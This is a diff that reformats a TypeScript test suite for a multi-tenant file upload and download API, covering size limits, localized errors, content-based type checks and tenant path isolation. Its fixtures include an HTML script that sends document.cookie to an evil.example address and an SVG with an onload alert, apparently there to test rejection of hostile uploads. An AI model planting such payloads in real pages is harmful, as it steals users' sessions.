@@ -41,7 +41,10 @@ afterAll(async () => {
 
 const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
 const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(32)]);
-const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;', 'latin1');
+const GIF = Buffer.from(
+  'GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
+  'latin1',
+);
 const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(24)]);
 const HTML = '<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>';
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>';
@@ -60,7 +63,9 @@ const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;
 
 function form(parts: FilePart[]): Buffer {
   const chunks = parts.flatMap((part) => [
-    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field ?? 'file'}"; filename="${part.name}"\r\nContent-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`),
+    Buffer.from(
+      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field ?? 'file'}"; filename="${part.name}"\r\nContent-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`,
+    ),
     Buffer.isBuffer(part.content) ? part.content : Buffer.from(part.content),
     Buffer.from('\r\n'),
   ]);
@@ -104,7 +109,10 @@ function storedFiles(): string[] {
 }
 
 async function fileRows(): Promise<number> {
-  const { count } = await t.app.db.selectFrom('files').select((eb) => eb.fn.countAll<number>().as('count')).executeTakeFirstOrThrow();
+  const { count } = await t.app.db
+    .selectFrom('files')
+    .select((eb) => eb.fn.countAll<number>().as('count'))
+    .executeTakeFirstOrThrow();
   return Number(count);
 }
 
@@ -127,14 +135,24 @@ describe('upload size', () => {
       method: 'POST',
       url: '/api/sys/common/upload',
       payload: Readable.from([form([{ name: 'big.zip', content: 'x' }])]),
-      headers: { 'Content-Type': MULTIPART, 'Content-Length': String(300 * 1024 * 1024), 'X-Access-Token': sales, 'Accept-Language': 'en', ...signedHeaders('/sys/common/upload', {}) },
+      headers: {
+        'Content-Type': MULTIPART,
+        'Content-Length': String(300 * 1024 * 1024),
+        'X-Access-Token': sales,
+        'Accept-Language': 'en',
+        ...signedHeaders('/sys/common/upload', {}),
+      },
     });
     expect(declared.statusCode).toBe(413);
     expect(envelope(declared).message).toBe('The file must not be larger than 200 MB');
   });
 
   it('refuses a file over the limit in the request language and keeps nothing of it', async () => {
-    const messages: Record<string, string> = { 'zh-CN': '文件大小不能超过 4 KB', en: 'The file must not be larger than 4 KB', 'zh-TW': '檔案大小不能超過 4 KB' };
+    const messages: Record<string, string> = {
+      'zh-CN': '文件大小不能超过 4 KB',
+      en: 'The file must not be larger than 4 KB',
+      'zh-TW': '檔案大小不能超過 4 KB',
+    };
     for (const [lang, message] of Object.entries(messages)) {
       const response = await expectNothingStored(() => upload({ name: 'big.pdf', content: Buffer.alloc(SMALL_LIMIT + 1, 'a') }, { app: small, lang }));
       expect(response.statusCode).toBe(413);
@@ -149,7 +167,9 @@ describe('upload size', () => {
     const chunk = Buffer.alloc(1024, 'b');
     // 100 MB offered without a declared length: only what the limit needs is ever read.
     async function* body() {
-      yield Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="endless.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`);
+      yield Buffer.from(
+        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="endless.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`,
+      );
       for (let i = 0; i < 100 * 1024; i++) {
         sent += chunk.length;
         yield chunk;
@@ -208,7 +228,15 @@ describe('what an upload is for decides what it accepts, by content', () => {
       expect(envelope(gif).message).toContain('JPG, PNG');
       expect(envelope(gif).message).not.toContain('GIF');
     }
-    const two = await expectNothingStored(() => upload([{ name: 'a.png', content: PNG }, { name: 'b.png', content: PNG }], { biz: 'productImage', lang: 'zh-TW' }));
+    const two = await expectNothingStored(() =>
+      upload(
+        [
+          { name: 'a.png', content: PNG },
+          { name: 'b.png', content: PNG },
+        ],
+        { biz: 'productImage', lang: 'zh-TW' },
+      ),
+    );
     expect(two.statusCode).toBe(400);
     expect(envelope(two).message).toBe('每次只能上傳一個檔案');
   });
@@ -330,7 +358,11 @@ describe('downloads reach only the caller’s own tenant folder', () => {
 
   it('another tenant gets 404 for a file by its exact path', async () => {
     expect((await view(path, otherTenantToken)).statusCode).toBe(404);
-    const download = await t.app.inject({ method: 'GET', url: `/api/sys/common/download/${path}`, headers: { 'X-Access-Token': otherTenantToken, 'X-Tenant-Id': tenantId } });
+    const download = await t.app.inject({
+      method: 'GET',
+      url: `/api/sys/common/download/${path}`,
+      headers: { 'X-Access-Token': otherTenantToken, 'X-Tenant-Id': tenantId },
+    });
     expect(download.statusCode).toBe(404);
   });
 
@@ -373,7 +405,16 @@ describe('downloads reach only the caller’s own tenant folder', () => {
     symlinkSync(join(t.filesDir, 'outside.txt'), join(t.filesDir, linked));
     await t.app.db
       .insertInto('files')
-      .values({ id: randomUUID(), tenant_id: tenantId, user_id: 'x', path: linked, original_name: 'link.txt', mime_type: 'text/plain; charset=utf-8', size: 1, created_at: new Date().toISOString() })
+      .values({
+        id: randomUUID(),
+        tenant_id: tenantId,
+        user_id: 'x',
+        path: linked,
+        original_name: 'link.txt',
+        mime_type: 'text/plain; charset=utf-8',
+        size: 1,
+        created_at: new Date().toISOString(),
+      })
       .execute();
     const response = await view(linked);
     expect(response.statusCode).toBe(404);
@@ -395,7 +436,12 @@ describe('record attachments judge images by the same content check', () => {
     const pictures = await Promise.all([...Array.from({ length: 6 }, (_, i) => uploaded(`scan${i}.pdf`, PNG)), uploaded('notes.txt', 'x')]);
     expect((await t.signedPost(RECORD_API.attachmentAdd, { ...record, files: pictures }, seller.token)).statusCode).toBe(200);
     const listed = envelope<Attachment[]>(await t.signedGet(RECORD_API.attachmentList, record, seller.token)).result;
-    expect(listed.filter((a) => a.kind === 'image').map((a) => a.name).sort()).toEqual(['scan0.pdf', 'scan1.pdf', 'scan2.pdf', 'scan3.pdf', 'scan4.pdf', 'scan5.pdf']);
+    expect(
+      listed
+        .filter((a) => a.kind === 'image')
+        .map((a) => a.name)
+        .sort(),
+    ).toEqual(['scan0.pdf', 'scan1.pdf', 'scan2.pdf', 'scan3.pdf', 'scan4.pdf', 'scan5.pdf']);
 
     // Seven real pictures, whatever their names, are one too many for one upload.
     const seven = [...pictures.slice(0, 6), await uploaded('report.docx', JPEG)];
